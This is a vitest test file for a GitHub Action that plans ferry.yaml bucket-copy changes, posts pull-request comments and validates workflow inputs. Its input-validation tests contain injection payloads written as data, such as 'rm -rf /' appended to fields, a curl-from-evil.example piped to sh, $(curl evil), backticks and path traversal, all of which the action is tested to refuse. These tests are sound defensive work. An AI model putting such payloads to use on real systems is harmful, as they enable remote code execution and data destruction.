// The plan action from its bundle, as the runner runs it: a pull request's ferry.yaml change planned against moto,
// the comment posted to (a stand-in of) the GitHub API, annotations, fork handling, and the comment workflow's checks.
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { getLocal, type Mockttp } from 'mockttp';
import { afterAll, beforeAll, beforeEach, describe, expect, inject, test } from 'vitest';
import { planCommentMarker } from '../../../worker/src/review/plan-comment.ts';
import { cliCredentialsEnv } from '../../support/ferry-cli.ts';
import { type ActionResult, runAction } from '../../support/run-action.ts';
import { expectedMedia, type ReviewFixture, seedReviewFixture } from './review-fixture.ts';

const repository = 'octo-org/migrations';
const headSha = 'a'.repeat(40);
const baseSha = 'b'.repeat(40);

function pullRequestPayload(options: { number: number; fork: boolean }) {
  return {
    action: 'synchronize',
    number: options.number,
    pull_request: {
      number: options.number,
      head: {
        sha: headSha,
        repo: { full_name: options.fork ? 'mallory/migrations' : repository, fork: options.fork },
      },
      base: { sha: baseSha, repo: { full_name: repository, fork: false } },
    },
    repository: { full_name: repository },
  };
}

/** A workspace holding ferry.yaml (the head) and, when given, base.yaml; plus the event payload beside it. */
function workspaceWith(
  files: Record<string, string>,
  payload?: unknown,
): { workspace: string; eventPath: string } {
  const root = mkdtempSync(join(tmpdir(), 'ferry-plan-action-'));
  const workspace = join(root, 'workspace');
  mkdirSync(workspace);
  for (const [name, text] of Object.entries(files)) writeFileSync(join(workspace, name), text);
  const eventPath = join(root, 'event.json');
  writeFileSync(eventPath, JSON.stringify(payload ?? {}));
  return { workspace, eventPath };
}

/** The GitHub variables every run sets here, so nothing leaks in from a CI runner's own environment. */
function githubEnv(options: {
  eventName: string;
  eventPath: string;
  apiUrl: string;
}): Record<string, string> {
  return {
    GITHUB_EVENT_NAME: options.eventName,
    GITHUB_EVENT_PATH: options.eventPath,
    GITHUB_REPOSITORY: repository,
    GITHUB_API_URL: options.apiUrl,
    GITHUB_SERVER_URL: 'https://github.example',
    ...cliCredentialsEnv,
  };
}

function annotations(result: ActionResult): string[] {
  return result.stdout.split('\n').filter((line) => line.startsWith('::error'));
}

describe('the plan action', () => {
  let fixture: ReviewFixture;
  let api: Mockttp;

  beforeAll(async () => {
    fixture = await seedReviewFixture({
      source: inject('motoSource'),
      destination: inject('motoDestination'),
    });
    api = getLocal();
    await api.start();
  });

  afterAll(async () => {
    await api.stop();
  });

  beforeEach(async () => {
    await api.reset();
  });

  test('plans a pull request that changes ferry.yaml, writes the body, and creates then updates one comment', async () => {
    const { workspace, eventPath } = workspaceWith(
      { 'ferry.yaml': fixture.headYaml, 'base.yaml': fixture.baseYaml },
      pullRequestPayload({ number: 7, fork: false }),
    );
    const comments = `/repos/${repository}/issues/7/comments`;
    await api.forGet(comments).once().thenJson(200, []);
    const created = await api.forPost(comments).thenJson(201, {
      id: 41,
      html_url: 'https://github.example/octo-org/migrations/pull/7#issuecomment-41',
    });
    const run = () =>
      runAction({
        action: 'plan',
        workspace,
        inputs: {
          'base-config': 'base.yaml',
          'output-dir': join(workspace, 'out'),
          'github-token': 'ghs_test',
        },
        env: githubEnv({ eventName: 'pull_request', eventPath, apiUrl: api.url }),
      });

    const first = await run();
    expect(first.stderr).toBe('');
    expect(first.code).toBe(0);
    const body = readFileSync(join(workspace, 'out', 'comment.md'), 'utf8');
    expect(body.startsWith(`${planCommentMarker}\n`)).toBe(true);
    expect(body).toContain('**2 added · 1 changed · 1 removed · 0 unchanged**');
    expect(body).toContain(`| copy | ${expectedMedia.copy.objects} objects, 4.26 KiB |`);
    expect(body).toContain('&#60;img src&#61;x');
    expect(body).not.toContain('<img');
    expect(readFileSync(join(workspace, 'out', 'pr-number'), 'utf8')).toBe('7\n');
    expect(readFileSync(join(workspace, 'out', 'head-sha'), 'utf8')).toBe(`${headSha}\n`);
    expect(first.summary).toContain(body);
    expect(first.outputs).toMatchObject({
      valid: 'true',
      'pr-number': '7',
      'over-guardrail': 'true',
      mappings: '["media","logs","bulk"]',
      'nightly-mappings': '["logs"]',
      'nightly-modes': '{"logs":"incremental"}',
      'comment-url': 'https://github.example/octo-org/migrations/pull/7#issuecomment-41',
    });
    const [posted] = await created.getSeenRequests();
    expect(await posted?.body.getJson()).toEqual({ body });
    expect(posted?.headers.authorization).toBe('token ghs_test');

    // The second run finds its own comment by marker and author (not a look-alike someone else wrote) and edits it.
    await api.forGet(comments).thenJson(200, [
      { id: 40, user: { login: 'mallory' }, body: `${planCommentMarker}\nnot ours` },
      { id: 41, user: { login: 'github-actions[bot]' }, body: `${planCommentMarker}\nthe old plan` },
    ]);
    const updated = await api
      .forPatch(`/repos/${repository}/issues/comments/41`)
      .thenJson(200, { id: 41, html_url: 'https://github.example/c/41' });
    const second = await run();
    expect(second.code).toBe(0);
    expect(second.outputs['comment-url']).toBe('https://github.example/c/41');
    expect(await updated.getSeenRequests()).toHaveLength(1);
    expect(await created.getSeenRequests()).toHaveLength(1);
  });

  test('reads the base version from git at the pull request base commit', async () => {
    const { workspace, eventPath } = workspaceWith({ 'ferry.yaml': fixture.baseYaml });
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', ...args], {
        cwd: workspace,
      });
    git('init', '--quiet');
    git('add', 'ferry.yaml');
    git('commit', '--quiet', '-m', 'base');
    const base = git('rev-parse', 'HEAD').toString().trim();
    writeFileSync(join(workspace, 'ferry.yaml'), fixture.headYaml);
    writeFileSync(
      eventPath,
      JSON.stringify({ ...pullRequestPayload({ number: 9, fork: false }) }).replace(baseSha, base),
    );
    const result = await runAction({
      action: 'plan',
      workspace,
      inputs: { list: 'false', 'output-dir': join(workspace, 'out') },
      env: githubEnv({ eventName: 'pull_request', eventPath, apiUrl: api.url }),
    });
    expect(result.code).toBe(0);
    const body = readFileSync(join(workspace, 'out', 'comment.md'), 'utf8');
    expect(body).toContain('**2 added · 1 changed · 1 removed · 0 unchanged**');
    expect(body).toContain('Buckets were not listed');
  });

  test('for a fork, plans without posting (the comment workflow posts)', async () => {
    const { workspace, eventPath } = workspaceWith(
      { 'ferry.yaml': fixture.headYaml },
      pullRequestPayload({ number: 8, fork: true }),
    );
    const anyCall = await api.forAnyRequest().thenJson(500, {});
    const result = await runAction({
      action: 'plan',
      workspace,
      inputs: {
        list: 'false',
        'base-ref': '',
        'github-token': 'ghs_test',
        'output-dir': join(workspace, 'out'),
      },
      env: {
        ...githubEnv({ eventName: 'pull_request', eventPath, apiUrl: api.url }),
        GIT_DIR: '/nonexistent',
      },
    });
    // No base commit in this workspace: the base-ref of the event cannot be read, and the step says why.
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/fetch-depth: 0/);
    expect(await anyCall.getSeenRequests()).toEqual([]);

    const withBase = workspaceWith(
      { 'ferry.yaml': fixture.headYaml, 'base.yaml': fixture.baseYaml },
      pullRequestPayload({ number: 8, fork: true }),
    );
    const planned = await runAction({
      action: 'plan',
      workspace: withBase.workspace,
      inputs: { list: 'false', 'base-config': 'base.yaml', 'github-token': 'ghs_test' },
      env: githubEnv({ eventName: 'pull_request', eventPath: withBase.eventPath, apiUrl: api.url }),
    });
    expect(planned.code).toBe(0);
    expect(planned.stdout).toContain('Pull request from a fork');
    expect(existsSync(planned.outputs['comment-file'] ?? '')).toBe(true);
    expect(await anyCall.getSeenRequests()).toEqual([]);
  });

  test('annotates every configuration problem on its file, line and column, and still writes the comment', async () => {
    const broken = fixture.headYaml
      .replace('schedule: nightly', 'schedule: hourly')
      .replace('prefix: big/ }', 'prefx: big/ }');
    const { workspace, eventPath } = workspaceWith(
      { 'ferry.yaml': broken },
      pullRequestPayload({ number: 7, fork: false }),
    );
    const result = await runAction({
      action: 'plan',
      workspace,
      inputs: { 'base-ref': '', list: 'false', 'output-dir': join(workspace, 'out') },
      env: githubEnv({ eventName: 'push', eventPath, apiUrl: api.url }),
    });
    expect(result.code).toBe(1);
    expect(annotations(result)).toEqual([
      expect.stringMatching(
        /^::error title=ferry\.yaml,file=ferry\.yaml,line=20,col=15::mappings\[1\]\.schedule: /,
      ),
      expect.stringMatching(
        /^::error title=ferry\.yaml,file=ferry\.yaml,line=22,col=\d+::mappings\[2\]\.source\.prefx: unknown property/,
      ),
      '::error::Config: ferry.yaml does not validate: 2 problem(s), each annotated on its line',
    ]);
    expect(result.outputs).toMatchObject({ valid: 'false', errors: '2' });
    expect(readFileSync(join(workspace, 'out', 'comment.md'), 'utf8')).toContain(
      '**The configuration does not validate**',
    );
  });

  test('as a guardrail, plans only mappings with maxBytesPerRun and fails when one is over it', async () => {
    const { workspace, eventPath } = workspaceWith({ 'ferry.yaml': fixture.headYaml });
    const guard = (mapping: string) =>
      runAction({
        action: 'plan',
        workspace,
        inputs: { 'base-config': 'ferry.yaml', mapping, 'fail-on-guardrail': 'true' },
        env: githubEnv({ eventName: 'schedule', eventPath, apiUrl: api.url }),
      });
    const over = await guard('media');
    expect(over.code).toBe(1);
    expect(over.outputs['over-guardrail']).toBe('true');
    expect(over.stdout).toContain('would copy more than its maxBytesPerRun');
    expect(over.summary).toContain('Guardrail maxBytesPerRun 1.00 KiB: **exceeded**');
    // logs sets no maxBytesPerRun: nothing to check, nothing listed.
    const unguarded = await guard('logs');
    expect(unguarded.code).toBe(0);
    expect(unguarded.outputs['over-guardrail']).toBe('false');
    expect(unguarded.summary).toContain('nothing to plan');
  });

  test("plans each mapping in its own mode unless told one: a sync mapping's deletes and their guardrail", async () => {
    const { workspace, eventPath } = workspaceWith({ 'ferry.yaml': fixture.syncYaml });
    const plan = (inputs: Record<string, string>) =>
      runAction({
        action: 'plan',
        workspace,
        inputs: { 'base-config': 'ferry.yaml', mapping: 'mirror', ...inputs },
        env: githubEnv({ eventName: 'workflow_dispatch', eventPath, apiUrl: api.url }),
      });
    const own = await plan({});
    expect(own.stderr).toBe('');
    expect(own.code).toBe(0);
    expect(own.summary).toContain('**Exact** (sync mode)');
    expect(own.summary).toContain('| delete | 2 objects, 100 B |');
    expect(own.summary).toMatch(/Delete guardrails \(maxDeleteObjects 1, .*\*\*refused\*\*/);
    // The delete guardrails are the run's to enforce: the plan reports them, fail-on-guardrail is maxBytesPerRun's.
    expect(own.outputs['over-guardrail']).toBe('false');
    const asCopy = await plan({ mode: 'copy' });
    expect(asCopy.code).toBe(0);
    expect(asCopy.summary).toContain('| delete | none | copy mode: nothing is deleted |');
    const bad = await plan({ mode: 'mirror; rm -rf /' });
    expect(bad.code).toBe(1);
    expect(annotations(bad)).toEqual([
      expect.stringMatching(/^::error::input mode: "mirror; rm -rf \/" is not one of/),
    ]);
  });

  describe('validate (the workflow_dispatch form)', () => {
    const validate = async (form: Record<string, string>) => {
      const { workspace, eventPath } = workspaceWith({ 'ferry.yaml': fixture.headYaml });
      return await runAction({
        action: 'plan',
        workspace,
        inputs: { command: 'validate', 'dispatch-form': 'true', ...form },
        env: githubEnv({ eventName: 'workflow_dispatch', eventPath, apiUrl: api.url }),
      });
    };

    test('resolves a good form into the outputs the next steps use', async () => {
      const result = await validate({ mapping: 'logs', mode: 'full', workers: '6', 'dry-run': 'true' });
      expect(result.code).toBe(0);
      expect(result.outputs).toMatchObject({
        valid: 'true',
        'mapping-id': 'logs',
        mode: 'full',
        workers: '6',
        'dry-run': 'true',
        'nightly-mappings': '["logs"]',
        'nightly-modes': '{"logs":"incremental"}',
        'source-buckets': fixture.sourceBucket,
        'destination-buckets': fixture.destinationBucket,
      });
    });

    test.each([
      ['copy', 'incremental'],
      ['sync', 'sync'],
    ])('turns the mode choice %s into an %s run', async (choice, mode) => {
      const result = await validate({ mapping: 'logs', mode: choice, workers: '2' });
      expect(result.code).toBe(0);
      expect(result.outputs).toMatchObject({ 'mapping-id': 'logs', mode });
    });

    test.each([
      ['an unknown mode', { mapping: 'logs', mode: 'incremental' }, 'mode'],
      ['a quote and a command', { mapping: 'logs"; curl https://evil.example/x | sh; "' }, 'mapping'],
      ['backticks', { mapping: 'logs`id`' }, 'mapping'],
      ['a line break', { mapping: 'logs\necho pwned' }, 'mapping'],
      ['a parent-directory prefix', { mapping: 'logs', 'source-prefix': '../../etc/' }, 'source-prefix'],
      ['a command in the worker count', { mapping: 'logs', workers: '$(curl evil)' }, 'workers'],
      [
        'a bucket with a command',
        { 'source-bucket': 'a;curl evil', 'destination-bucket': 'b' },
        'source-bucket',
      ],
      ['a form that names no mapping', {}, 'mapping'],
    ])('refuses %s before any step uses it', async (_what, form, field) => {
      const result = await validate(form);
      expect(result.code).toBe(1);
      expect(result.outputs['mapping-id']).toBeUndefined();
      const errors = annotations(result);
      expect(errors[0]).toMatch(new RegExp(`^::error title=workflow input::${field}: `));
      expect(errors.at(-1)).toMatch(/^::error::the workflow inputs are not valid: /);
      // The hostile value is quoted in the message, never on a line of its own.
      expect(result.stdout.split('\n').some((line) => line.startsWith('echo pwned'))).toBe(false);
    });
  });

  describe('comment (the workflow_run job posting a plan it did not make)', () => {
    function artifact(files: Record<string, string>): string {
      const dir = mkdtempSync(join(tmpdir(), 'ferry-plan-artifact-'));
      for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
      return dir;
    }
    const body = `${planCommentMarker}\n### Ferry plan\n`;
    const post = async (dir: string) => {
      const { workspace, eventPath } = workspaceWith({});
      return await runAction({
        action: 'plan',
        workspace,
        inputs: {
          command: 'comment',
          'comment-dir': dir,
          'expected-head-sha': headSha,
          'github-token': 'ghs_test',
        },
        env: githubEnv({ eventName: 'workflow_run', eventPath, apiUrl: api.url }),
      });
    };

    test('posts the body to the pull request whose head is still the planned commit', async () => {
      await api
        .forGet(`/repos/${repository}/pulls/12`)
        .thenJson(200, { head: { sha: headSha }, state: 'open' });
      await api.forGet(`/repos/${repository}/issues/12/comments`).thenJson(200, []);
      const created = await api
        .forPost(`/repos/${repository}/issues/12/comments`)
        .thenJson(201, { html_url: 'u' });
      const result = await post(
        artifact({ 'comment.md': body, 'pr-number': '12\n', 'head-sha': `${headSha}\n` }),
      );
      expect(result.code).toBe(0);
      const [request] = await created.getSeenRequests();
      expect(await request?.body.getJson()).toEqual({ body });
    });

    test('does not post a stale plan', async () => {
      await api
        .forGet(`/repos/${repository}/pulls/12`)
        .thenJson(200, { head: { sha: 'c'.repeat(40) }, state: 'open' });
      const created = await api
        .forPost(`/repos/${repository}/issues/12/comments`)
        .thenJson(201, { html_url: 'u' });
      const result = await post(artifact({ 'comment.md': body, 'pr-number': '12', 'head-sha': headSha }));
      expect(result.code).toBe(0);
      expect(result.stdout).toContain('this plan is stale, not posted');
      expect(await created.getSeenRequests()).toEqual([]);
    });

    test.each([
      [
        'a pull request number that is not digits',
        { 'pr-number': '12; rm -rf /' },
        /pr-number "12; rm -rf \/" is not a pull request number/,
      ],
      ['a plan of another commit', { 'head-sha': 'd'.repeat(40) }, /the plan is of commit "d{40}"/],
      ['a body that is not a plan', { 'comment.md': '@everyone hello' }, /is not a Ferry plan/],
      ['an oversized body', { 'comment.md': `${body}${'x'.repeat(300_000)}` }, /bytes, over/],
    ])('refuses %s without calling the API', async (_what, override, message) => {
      const anyCall = await api.forAnyRequest().thenJson(500, {});
      const files = { 'comment.md': body, 'pr-number': '12', 'head-sha': headSha, ...override };
      const result = await post(artifact(files));
      expect(result.code).toBe(1);
      expect(result.stdout).toMatch(message);
      expect(await anyCall.getSeenRequests()).toEqual([]);
    });
  });
});
